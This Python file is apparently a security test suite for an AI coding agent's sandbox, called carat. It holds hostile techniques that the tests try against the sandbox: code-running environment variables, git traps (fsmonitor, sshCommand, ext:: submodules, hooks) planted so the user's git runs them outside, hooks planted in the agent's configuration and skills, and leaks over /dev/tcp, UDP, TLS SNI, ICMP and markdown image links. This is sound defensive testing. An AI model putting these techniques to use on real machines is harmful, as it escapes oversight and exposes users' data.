#!/usr/bin/env python3
"""E and G: what the environment and a repository make other programs run, and D: ways for a word to leave the machine.

E: carat is started with the variable; a tool's command must not have it. G: a trap that a host's own git springs (the control)
lies in the workspace; carat looks at everything, changes, takes back, and runs the same git in a tool's command; nothing
outside the workspace may have happened. D: a listener on the loopback must hear nothing.
"""
import socket

from rows import *

VARIABLES = [
    ("E02", "BASH_ENV", "{work}/trap.sh", "bash -c true", True),
    ("E03", "ENV", "{work}/trap.sh", "sh -i -c true", True),
    ("E04", "LD_PRELOAD", "{root}/nothing.so", "env", False),
    ("E05", "LD_AUDIT", "{root}/nothing.so", "env", False),
    ("E06", "GIT_SSH_COMMAND", "{work}/trap.sh", "git ls-remote ssh://127.0.0.1/x", True),
    ("E07", "PAGER", "{work}/trap.sh", "env", False),
    ("E08", "PYTHONPATH", "{work}", "python3 -c 1", True),
    ("E09", "NODE_OPTIONS", "--require={work}/trap.js", "env", False),
    ("E10", "TERMINFO", "{work}/terminfo", "env", False),
    ("E11", "LOCPATH", "{work}/locale", "env", False),
]


def trap(place):
    """A script that leaves a mark beside itself, by every name that a program may look for."""
    for name, text in (("trap.sh", "#!/bin/sh\ntouch {0}/mark\n"), ("sitecustomize.py", "open('{0}/mark', 'w')\n")):
        place.write(name, text.format(place.work))
        os.chmod(os.path.join(place.work, name), 0o755)


def case_environment():
    outcome = []
    for inside in (False, True):
        with Place() as place:
            trap(place)
            values = {name: value.format(work=place.work, root=place.root) for _, name, value, _, _ in VARIABLES}
            found = {}
            commands = [f"rm -f mark; {command}; ls mark; env  # {name}" for _, name, _, command, _ in VARIABLES]
            if inside:
                texts = [text for text, _ in Session(place, *[call("shell", command=command) for command in commands], env=values).whole(len(commands))]
            else:
                texts = [freely(command, place.work, env={name: values[name]}).stdout for command, (_, name, _, _, _) in zip(commands, VARIABLES)]
            for (number, name, _, _, _), text in zip(VARIABLES, texts):
                found[number] = (f"{name}={values[name]}" in text, "mark" in text.splitlines())
            outcome.append(found)
    for number, name, _, _, springs in VARIABLES:
        (has, sprung), inside = outcome[0][number], outcome[1][number]
        report(number, name, any(inside) and f"{inside}", has and (sprung or not springs))
    outcome = []
    for inside in (False, True):  # programs that carat itself starts, by the names that PATH would find
        with Place() as place:
            for name in ("git", "sh", "bwrap", "env", "carat-tool", "python3"):
                place.write(name, f"#!/bin/sh\n: > {place.root}/mark\n")
                os.chmod(os.path.join(place.work, name), 0o755)
            variable = {"PATH": ".:" + os.environ["PATH"]}
            if inside:
                said = Session(place, call("shell", command="git --version"), call("list_files"), env=variable).whole(2)
                check("git version" in said[0][0], said)
            else:
                subprocess.run(["git", "--version"], cwd=place.work, env=dict(os.environ, **variable), capture_output=True)
            outcome.append(exists(place.root, "mark"))
    report("E01", "./git, ./sh, ./bwrap with . in PATH", outcome[1] and "it ran", outcome[0])
    everything()
    with Place() as place:
        other = os.path.join(place.root, "other")
        place.write(".env", f"CARAT_HOME={other}\nCARAT_MODEL=/nothing\nSPRUNG=yes\n")
        said = Session(place, call("shell", command="env")).whole(1)
        control = freely("set -a; . ./.env; env", place.work).stdout
        report("E12", ".env in the workspace", (exists(other) or "SPRUNG" in said[0][0]) and "it was read", "SPRUNG=yes" in control)


# What makes some program run code, or obey somebody else: of languages, loaders, packagers, tool managers, shells, editors.
RUNS_CODE = """LD_PRELOAD_32 LD_LIBRARY_PATH LD_DEBUG_OUTPUT GCONV_PATH NLSPATH HOSTALIASES RESOLV_HOST_CONF GETCONF_DIR MALLOC_TRACE TMPDIR
    PERL5OPT PERL5LIB PERL5DB RUBYOPT RUBYLIB PYTHONSTARTUP PYTHONHOME PYTHONUSERBASE PYTHONBREAKPOINT PYTHONINSPECT NODE_PATH NODE_EXTRA_CA_CERTS
    DENO_DIR BUN_INSTALL BUN_CONFIG_REGISTRY npm_config_script_shell NPM_CONFIG_USERCONFIG YARN_RC_FILENAME UV_CONFIG_FILE UV_INDEX_URL UV_PYTHON
    PIP_CONFIG_FILE PIP_INDEX_URL PIPENV_PIPFILE CARGO_HOME CARGO_BUILD_RUSTC_WRAPPER RUSTC_WRAPPER RUSTUP_TOOLCHAIN GOFLAGS GOPROXY GOENV
    JAVA_TOOL_OPTIONS _JAVA_OPTIONS JDK_JAVA_OPTIONS MAVEN_OPTS GRADLE_OPTS CLASSPATH PHPRC PHP_INI_SCAN_DIR LUA_INIT LUA_PATH R_PROFILE
    MISE_CONFIG_FILE ASDF_CONFIG_FILE DIRENV_CONFIG NIX_PATH NIX_CONFIG JUST_UNSTABLE MAKEFLAGS MAKEFILES CMAKE_PREFIX_PATH CC CXX CFLAGS LDFLAGS
    GIT_CONFIG_COUNT GIT_CONFIG_KEY_0 GIT_CONFIG_VALUE_0 GIT_CONFIG_GLOBAL GIT_EXTERNAL_DIFF GIT_EDITOR GIT_ASKPASS GIT_DIR GIT_TEMPLATE_DIR
    SSH_ASKPASS SSH_AUTH_SOCK EDITOR VISUAL BROWSER LESSOPEN LESS MANPAGER BAT_PAGER FZF_DEFAULT_OPTS FZF_DEFAULT_COMMAND RIPGREP_CONFIG_PATH
    PROMPT_COMMAND PS4 SHELLOPTS BASHOPTS CDPATH GLOBIGNORE IFS FPATH ZDOTDIR INPUTRC XDG_CONFIG_HOME XDG_DATA_DIRS OPENSSL_CONF SSL_CERT_FILE
    CURL_HOME WGETRC DOCKER_HOST KUBECONFIG AWS_ACCESS_KEY_ID GITHUB_TOKEN OPENAI_API_KEY DBUS_SESSION_BUS_ADDRESS DISPLAY WAYLAND_DISPLAY""".split()
GIVEN = {"PATH", "HOME", "TERM", "PAGER", "GIT_PAGER", "LANG", "LC_ALL", "LC_CTYPE", "TZ", "PWD", "OLDPWD", "SHLVL", "_"}


def everything():
    with Place() as place:
        values = {name: f"{place.work}/{name}" for name in RUNS_CODE}
        text = Session(place, call("shell", command="env | cut -d= -f1 | sort > names; wc -l names"), env=values).whole(1)[0][0]
        names = set(place.read("names").split())
        free = set(freely("env | cut -d= -f1", place.work, env={**values, "TMPDIR": "/tmp"}).stdout.split())
        report("E13", f"{len(RUNS_CODE)} variables that some program obeys", sorted(names - GIVEN), "names" in text and set(RUNS_CODE) - free <= {"SHELLOPTS", "BASHOPTS", "IFS", "PS4"})


# --- carat's own files ---

def case_own():
    """They lie in the workspace, by a link or by a variable; the shell and the file tools look for them."""
    for number, name, lay, path in [
            ("E14", "its data by a link", lambda place: (os.mkdir(place.work + "/disk"), os.symlink(place.work + "/disk", place.env["CARAT_HOME"] + "/data")), "disk/conversations.db"),
            ("E15", "its configuration", lambda place: place.env.update(CARAT_HOME=place.work + "/own"), "own/config.toml"),
            ("E16", "what it read before", lambda place: place.env.update(CARAT_HOME=place.work + "/own"), "own/cache/kv/session"),
            ("E17", "its log", lambda place: place.env.update(CARAT_LOG=place.work + "/log"), "log")]:
        with Place() as place:
            lay(place)
            if number != "E14":
                os.makedirs(os.path.dirname(os.path.join(place.work, path)), exist_ok=True)
                place.write(path, "# SECRET\n")
            place.carat("exec", "hello", code=None)
            held = open(os.path.join(place.work, path), "rb").read()
            secret = "hello" if number == "E14" else "SECRET"
            said = Session(place, call("shell", command=f"cat {path} | strings"), call("search_files", pattern=secret),
                           call("read_file", path=path)).results
            check(len(said) == 3, said)
            report(number, name, any(secret in text.replace(f'"{secret}"', "") for text, _ in said) and f"{said}", secret.encode() in held)


class Inside:
    """A workspace in which carat's own files, or the home directory, lie, and a command in it."""

    def __init__(self, place, *hidden, home=None, tool=TOOL):
        self.place, self.tool, self.env = place, tool, dict(place.env, HOME=home or place.home)
        with open(os.path.join(place.root, "policy"), "w") as file:
            json.dump({"hidden": [os.path.join(place.work, name) for name in hidden]}, file)

    def run(self, command):
        return subprocess.run([self.tool, "shell", "--workspace", self.place.work, "--policy", os.path.join(self.place.root, "policy"), "--run", "--",
                               "sh", "-c", command], env=self.env, capture_output=True, text=True, timeout=PATIENCE)


def case_covers():
    """What is covered is put in another place, or its name is taken where nothing lies under the cover."""
    plant = "mkdir -p own; echo breached > own/config.toml"

    def planted(place):
        path = os.path.join(place.work, "own", "config.toml")
        return os.path.isfile(path) and "breached" in open(path).read() and "it is there"

    def lay(place, *names, links=()):
        for name in names:
            os.makedirs(os.path.dirname(os.path.join(place.work, name)), exist_ok=True)
            place.write(name, "mine\n")
        for name, target in links:
            os.symlink(target, os.path.join(place.work, name))

    for number, name, names, links, command in [
            ("E18", "its folder moved aside", ["own/config.toml"], [], "mv own aside; " + plant),
            ("E19", "its configuration that is not there yet", ["own/other"], [], plant),
            ("E20", "its folder that is not there yet", ["other"], [], plant),
            ("E21", "a link to its folder, replaced", ["dots/own/config.toml"], [("own", "dots/own")], "rm own; " + plant)]:
        with Place() as place:
            lay(place, *names, links=links)
            run = Inside(place, "own/config.toml").run(command + "; echo over")
            through = planted(place) or ("over" not in run.stdout and number != "E21" and f"it did not run: {run.stderr}") \
                or (number == "E21" and run.returncode != 56 and f"it ended with {run.returncode}")
        with Place() as place:
            lay(place, *names, links=links)
            freely(command, place.work)
            report(number, name, through, bool(planted(place)))
    for number, name, folder, command, home in [
            ("E22", "a home in the workspace moved aside", "me", "mv me aside && mkdir me", "me"),
            ("E23", "carat-tool's folder moved aside", "bin", "mv bin aside && mkdir bin", None)]:
        with Place() as place:
            lay(place, folder + "/mark")
            tool = shutil.copy(TOOL, os.path.join(place.work, folder)) if home is None else TOOL
            run = Inside(place, home=home and os.path.join(place.work, home), tool=tool).run(command + "; echo over")
            through = (not exists(place.work, folder, "mark") and "it was moved") or ("over" not in run.stdout and f"it did not run: {run.stderr}")
            freely(command, place.work)
            report(number, name, through, not exists(place.work, folder, "mark"))
    with Place() as place:  # one command takes the system away from all that come later
        inside = Inside(place, home=place.work)
        inside.run("ln -s /usr .x; ln -s / .y; ln -s /dev .z")
        run = inside.run("echo lives")
        report("E24", "links to the system at home", run.stdout != "lives\n" and f"{run.returncode} {run.stderr}", exists(place.work, ".x"))
    with Place() as place:
        inside = Inside(place, home=place.work)
        control = inside.run("true").returncode == 0
        for i in range(3100):
            place.write(f".n{i}", "")
        run = inside.run("true")
        report("E25", "more dot names than can be covered", (run.returncode != 56 or place.work not in run.stderr) and f"{run.returncode} {run.stderr}", control)


def case_configuration():
    """What a later start of carat reads lies in the workspace, and a command writes it: a hook there runs outside."""
    def at_home(place):
        place.env.pop("CARAT_HOME")
        config = os.path.join(place.home, ".config", "carat")
        os.makedirs(os.path.join(config, "config.d"))
        return config

    def whole(place):
        """All of it is a link into the workspace."""
        shutil.rmtree(at_home(place))
        for name in ("config.d", "profiles", "skills/kept"):
            os.makedirs(os.path.join(place.work, "carat", name))
        os.symlink(place.work + "/carat", os.path.join(place.home, ".config", "carat"))
        place.write("carat/config.toml", "")
        place.write("carat/profiles/work.toml", "")
        place.write("carat/skills/kept/SKILL.md", "---\nname: kept\ndescription: mine\n---\n")

    def variable(place):
        at_home(place)
        place.env["XDG_CONFIG_HOME"] = place.work + "/set"
        os.makedirs(place.work + "/set/carat/config.d")
        place.write("set/carat/config.toml", "")

    def linked(place, *ways):
        """A file of config.d leads into the workspace, by way of more links."""
        os.makedirs(place.work + "/in/more")
        os.symlink(os.path.join(place.work, ways[0]), os.path.join(at_home(place), "config.d", "10-extra.toml"))
        for name, target in zip(ways, ways[1:]):
            os.symlink(os.path.join(place.work, target), os.path.join(place.work, name))

    def hook_runs(place, *words):
        place.carat("exec", *words, "-m", script(place, call("list_files"), "Done."), "go", code=None)
        return exists(place.root, "mark") and "a hook ran outside"

    def skill_told(place):
        return place.carat("exec", "-m", script(place, {"expect": "planted", "text": "Done."}), "go", code=None).returncode == 0 and "it is told"

    for number, name, lay, path, sprung in [
            ("E26", "a profile behind a link to all of it", whole, "carat/profiles/work.toml", lambda place: hook_runs(place, "--profile", "work")),
            ("E27", "a profile that is not there yet", variable, "set/carat/profiles/work.toml", lambda place: hook_runs(place, "--profile", "work")),
            ("E28", "a file that config.d links to", lambda place: (linked(place, "extra.toml"), place.write("extra.toml", "")), "extra.toml", hook_runs),
            ("E29", "a link on the way there, replaced", lambda place: (linked(place, "in/way.toml", "extra.toml"), place.write("extra.toml", "")),
             "in/way.toml", hook_runs),
            ("E30", "a link to nothing yet", lambda place: linked(place, "in/more/extra.toml"), "in/more/extra.toml", hook_runs),
            ("E31", "one of the user's own skills", whole, "carat/skills/kept/SKILL.md", skill_told),
            ("E32", "a skill of the user's that is not there yet", variable, "set/carat/skills/new/SKILL.md", skill_told)]:
        def text(place):
            return "---\nname: new\ndescription: planted\n---\n" if "skills" in path else f"[[hooks]]\ncommand = 'touch {place.root}/mark'\n"

        plant = f"mkdir -p {os.path.dirname(path) or '.'}; rm -f {path}; cp text {path}; cat text >> {path}; mv text {path}; echo over"
        if "skills" in path:
            plant = plant.replace("cat text >>", "cat text >")
        with Place() as place:
            lay(place)
            place.write("text", text(place))
            said = Session(place, call("shell", command=plant), call("write_file", path=path, content=text(place))).whole(2)
            check("over" in said[0][0], said)
            through = sprung(place)
        with Place() as place:
            lay(place)
            place.write("text", text(place))
            freely(plant, place.work)
            report(number, name, through, bool(sprung(place)))


# --- git ---

def hook(folder):
    return f"mkdir -p {folder}/hooks; printf '#!/bin/sh\\ntouch MARK\\n' > {folder}/hooks/post-commit; chmod +x {folder}/hooks/post-commit; "


GIT = [  # id, what, how the trap is laid in a repository, what springs it
    ("G01", "hook of a nested repository", "git init -q sub/inner; " + hook("sub/inner/.git"), "git -C sub/inner commit -q --allow-empty -m x"),
    ("G02", "hook of a new repository", "git init -q new; " + hook("new/.git"), "git -C new commit -q --allow-empty -m x"),
    ("G03", "core.fsmonitor", "git config core.fsmonitor 'touch MARK;'", "git status"),
    ("G04", "core.sshCommand", "git config core.sshCommand 'touch MARK;'", "git ls-remote ssh://127.0.0.1/x"),
    ("G05", "core.pager", "git config core.pager 'touch MARK;'; git config pager.log true", "script -qec 'git log' /dev/null"),
    ("G06", "diff.external", "git config diff.external 'touch MARK;'; echo more >> plain", "git diff"),
    ("G07", "filter.clean by .gitattributes", "git config filter.x.clean 'touch MARK;cat'; echo '* filter=x' > .gitattributes; echo more >> plain", "git add plain"),
    ("G08", "include.path", "git config include.path ../more; printf '[core]\\nfsmonitor=\"touch MARK;\"\\n' > more", "git status"),
    ("G09", "submodule ext::", "git config protocol.ext.allow always; git config submodule.x.url 'ext::touch MARK'; "
     "git config submodule.x.active true; printf '[submodule \"x\"]\\n path=x\\n url=ext::touch MARK\\n' > .gitmodules; "
     "git add .gitmodules; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),x", "GIT_ALLOW_PROTOCOL=ext git submodule update --init"),
    ("G10", "bare repository in the tree", "git init -q --bare bare; git -C bare config core.fsmonitor 'touch MARK;'; git -C bare config core.bare false; "
     "git -C bare config core.worktree .", "cd bare && git status"),
    ("G11", "worktree whose .git leads out", "git init -q ../far; git -C ../far config core.fsmonitor 'touch MARK;'; mkdir tree; "
     "echo \"gitdir: $PWD/../far/.git\" > tree/.git", "git -C tree status"),
    ("G12", "gitdir: of a link", "git init -q ../far; git -C ../far config core.fsmonitor 'touch MARK;'; mkdir tree; ln -s ../../far/.git tree/.git", "git -C tree status"),
    ("G13", "alias", "git config alias.st '!touch MARK'", "git st"),
    ("G14", "gpg.program", "git config commit.gpgSign true; git config gpg.program $PWD/sign; printf '#!/bin/sh\\ntouch MARK\\n' > sign; chmod +x sign",
     "git commit -q --allow-empty -m x"),
]
IDENTITY = {"GIT_AUTHOR_NAME": "x", "GIT_AUTHOR_EMAIL": "x@x", "GIT_COMMITTER_NAME": "x", "GIT_COMMITTER_EMAIL": "x@x", "GIT_TERMINAL_PROMPT": "0"}


def case_git():
    """Each trap in a folder of its own beneath the workspace, with a mark of its own outside."""
    marks = []
    for inside in (False, True):
        with Place() as place:
            identity = dict(IDENTITY, HOME=place.home, GIT_CONFIG_GLOBAL="/dev/null")
            calls = []
            for number, _, lay, spring in GIT:
                folder = os.path.join(place.work, number)
                os.mkdir(folder)
                freely("git init -q .; echo plain > plain; git add plain; git commit -q -m x; " +
                       lay.replace("MARK", os.path.join(place.root, "mark-" + number)), folder, env=identity)
                if inside:
                    calls += [call("read_file", path=number + "/plain"), call("edit_file", path=number + "/plain", old_text="plain", new_text="other"),
                              call("shell", command=f"cd {number}; {spring}; true", timeout_s=5)]
                else:
                    freely(spring, folder, env=identity)
            if inside:
                place.env.update(identity)
                Session(place, call("list_files"), call("search_files", pattern="plain"), *calls).whole(2 + len(calls))
                place.carat("undo", code=None)
                place.carat("exec", "hello", code=None)
            marks.append({name for name in os.listdir(place.root) if name.startswith("mark-")})
    for number, name, _, _ in GIT:
        report(number, name, "mark-" + number in marks[1] and "the trap was sprung outside", "mark-" + number in marks[0])


def planted_hook(folder):
    return f"printf '#!/bin/sh\\ntouch MARK\\n' > {folder}/post-commit; chmod +x {folder}/post-commit"


COMMIT = "git commit -q --allow-empty -m x"
INNER = "git init -q sub/inner; mkdir sub/inner/.githooks; git -C sub/inner config core.hooksPath .githooks"
INNER_COMMIT = "git -C sub/inner commit -q --allow-empty -m x"
PLANTS = [  # id, what, how git's own files lie, what commands plant (a line is a call), what springs it later
    ("G15", ".git is a link", "mv .git real; ln -s real .git", "git config core.fsmonitor 'touch MARK;'", "git status"),
    ("G16", ".git leads to a folder of the workspace", "mv .git .bare; echo 'gitdir: ./.bare' > .git", planted_hook(".bare/hooks"), COMMIT),
    ("G17", "a worktree of such a repository", "mv .git .bare; echo 'gitdir: ./.bare' > .git; git worktree add -q tree; git init -q far; "
     "git -C far config core.fsmonitor 'touch MARK;'", "echo $PWD/far/.git > .bare/worktrees/tree/commondir", "git -C tree status"),
    ("G18", "core.hooksPath is there", "mkdir .githooks; git config core.hooksPath .githooks", planted_hook(".githooks"), COMMIT),
    ("G19", "the hooks are a link", "rm -r .git/hooks; mkdir mine; ln -s ../mine .git/hooks", planted_hook("mine"), COMMIT),
    ("G20", "include.path is there", "echo > more; git config include.path ../more", "printf '[core]\\nfsmonitor=\"touch MARK;\"\\n' > more", "git status"),
    ("G21", "the folder above is writable, too", "echo > .envrc", "echo 'touch MARK' > .envrc", ". ./.envrc"),
    ("G22", "many folders beside it", "git init -q zz/nested", "seq 1 21000 | xargs mkdir\n"
     "git -C zz/nested config core.fsmonitor 'touch MARK;'", "git -C zz/nested status"),
    ("G23", "a repository of the home directory", "git init -q inner", "git -C inner config core.fsmonitor 'touch MARK;'", "git -C inner status"),
    ("G24", "a workspace that cannot be listed", "mkdir .githooks; git config core.hooksPath .githooks",
     "chmod 0311 .\n" + planted_hook(".githooks"), "chmod 0755 .; " + COMMIT),
    ("G25", "a folder that cannot be searched", INNER, "chmod 0644 sub\nchmod 0755 sub; " + planted_hook("sub/inner/.githooks"),
     "chmod 0755 sub; " + INNER_COMMIT),
    ("G26", "hooks of a repository that lies outside", "rm -r .git; git init -q ../far; cd ../far; " + COMMIT + "; git worktree add -q -f ../work; "
     "git config core.hooksPath tools/hooks; mkdir -p ../work/tools/hooks", planted_hook("tools/hooks"), COMMIT),
    ("G27", "the same name too often", "rm -r .git; " + INNER, "git init -q .; echo > f; (echo '[include]'; yes path=$PWD/f | head -751) >> .git/config\n" +
     planted_hook("sub/inner/.githooks"), INNER_COMMIT),
    ("G28", "what a name of an editor's is a link to", "mkdir settings; echo > settings/env; ln -s settings/env .envrc",
     "echo 'touch MARK' > settings/env", ". ./.envrc"),
    ("G29", "what an included file includes", "echo > deep; printf '[include]\\npath=deep\\n' > more; git config include.path ../more",
     "printf '[core]\\nfsmonitor=\"touch MARK;\"\\n' > deep", "git status"),
]


def case_plants():
    """What a command plants where git's files already lie otherwise than usual; the user's own git springs it."""
    for number, name, lay, plant, spring in PLANTS:
        marks = []
        for inside in (False, True):
            with Place() as place:
                identity = dict(IDENTITY, HOME=place.home, GIT_CONFIG_GLOBAL="/dev/null")
                mark = os.path.join(place.root, "mark")
                freely(f"git init -q .; {COMMIT}; " + lay.replace("MARK", mark), place.work, env=identity)
                if inside:
                    words = ("--add-dir", place.root) if number == "G21" else ()
                    place.env.update(identity)
                    if number == "G23":
                        place.env["HOME"] = place.work
                    Session(place, *[call("shell", command=command) for command in plant.replace("MARK", mark).split("\n")], words=words)
                else:
                    freely(plant.replace("MARK", mark), place.work, env=identity)
                early = os.path.exists(mark)
                freely(spring, place.work, env=identity)
                marks.append(os.path.exists(mark) and not early)
        report(number, name, marks[1] and "the trap was sprung outside", marks[0])


# --- words that leave ---

EXITS = [
    ("D02", "UDP, as a query to port 53", "python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', PORT))\""),
    ("D04", "/dev/tcp", "exec bash -c 'echo x > /dev/tcp/127.0.0.1/PORT'"),
    ("D05", "a name in the TLS hello", "python3 -c \"import socket, ssl; c = ssl.create_default_context(); c.check_hostname = False; "
     "s = socket.create_connection(('127.0.0.1', PORT), 2); s.settimeout(1); c.wrap_socket(s, server_hostname='secret.example')\""),
    ("D06", "a relay that the command starts", "python3 -c \"import socket, threading, urllib.request as u; "
     "l = socket.create_server(('127.0.0.1', 0)); "
     "threading.Thread(target=lambda: (l.accept(), socket.create_connection(('127.0.0.1', PORT), 2)), daemon=True).start(); "
     "u.urlopen('http://127.0.0.1:%d/' % l.getsockname()[1], timeout=1)\""),
]


class Listeners:
    def __enter__(self):
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.tcp.setblocking(False)
        self.udp.setblocking(False)
        return self

    def heard(self):
        count = 0
        for take in (self.tcp.accept, lambda: self.udp.recv(99)):
            try:
                while True:
                    take()
                    count += 1
            except BlockingIOError:
                pass
        return count

    def __exit__(self, *unused):
        self.tcp.close()
        self.udp.close()


def case_exits():
    for number, name, command in EXITS:
        with Place() as place, Listeners() as listeners:
            command = command.replace("PORT", str(listeners.port))
            freely(command, place.work)
            free = listeners.heard()
            Session(place, call("shell", command=command)).whole(1)
            report(number, name, listeners.heard() and "it was heard", free > 0)
    with Place() as place:
        look = "readlink /proc/self/ns/net; tail -n +3 /proc/net/dev | cut -d: -f1; python3 -c \"import socket; print(socket.getaddrinfo('secret.example.org', 80))\""
        said = Session(place, call("shell", command=look)).whole(1)[0][0]
        links = [line.strip() for line in said.splitlines() if line.strip() in os.listdir("/sys/class/net")]
        through = os.readlink("/proc/self/ns/net") in said or "gaierror" not in said or links != ["lo"]
        report("D01", "a name asked for by getaddrinfo", through and said, os.readlink("/proc/self/ns/net") in freely(look, place.work).stdout)
        ping = "python3 -c \"import socket; s = socket.socket(socket.AF_INET, KIND, 1); s.sendto(b'\\\\x08\\\\0\\\\xf7\\\\xff\\\\0\\\\0\\\\0\\\\0', ('127.0.0.1', 0)); print('sent')\""
        both = " ; ".join(ping.replace("KIND", kind) for kind in ("socket.SOCK_DGRAM", "socket.SOCK_RAW"))
        said = Session(place, call("shell", command=both)).whole(1)[0][0]
        report("D03", "ICMP", "sent" in said and said, True if "sent" in freely(both, place.work).stdout else None)
    with Place() as place, Listeners() as listeners:
        host = f"127.0.0.1:{listeners.port}"
        def run(*words):
            return place.carat("exec", "--mode", "ask", "--allow-host", host, *words, "-m",
                               script(place, call("http_fetch", url=f"http://{host}/leak?secret"), "Done."), "go", code=None)
        asked = run("--allow", f"http_fetch(http://{host}/)")
        heard = listeners.heard()
        control = subprocess.Popen([CARAT, "exec", "--mode", "full", "--allow-host", host, "-m",
                                    script(place, call("http_fetch", url=f"http://{host}/leak?secret"), "Done."), "go"],
                                   cwd=place.work, env=place.env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        while not (tried := listeners.heard()) and control.poll() is None:
            time.sleep(0.05)
        control.terminate()
        control.wait(PATIENCE)
        report("D07", "another path of an allowed host", (asked.returncode != 55 or heard) and "no question", tried > 0)
    with Place() as place, Listeners() as listeners:
        link = f"![x](http://127.0.0.1:{listeners.port}/?secret) [y](http://127.0.0.1:{listeners.port}/) <img src='http://127.0.0.1:{listeners.port}/z'>"
        place.write("page.md", link)
        Session(place, call("read_file", path="page.md"), words=("--allow-host", f"127.0.0.1:{listeners.port}")).whole(1)
        run = place.carat("exec", "--allow-host", f"127.0.0.1:{listeners.port}", "-m", script(place, link), "go")
        heard = listeners.heard()
        socket.create_connection(("127.0.0.1", listeners.port)).close()
        report("D08", "a picture and a link in an answer", heard and "it was fetched", listeners.heard() > 0 and "127.0.0.1" in run.stdout)


main(globals())
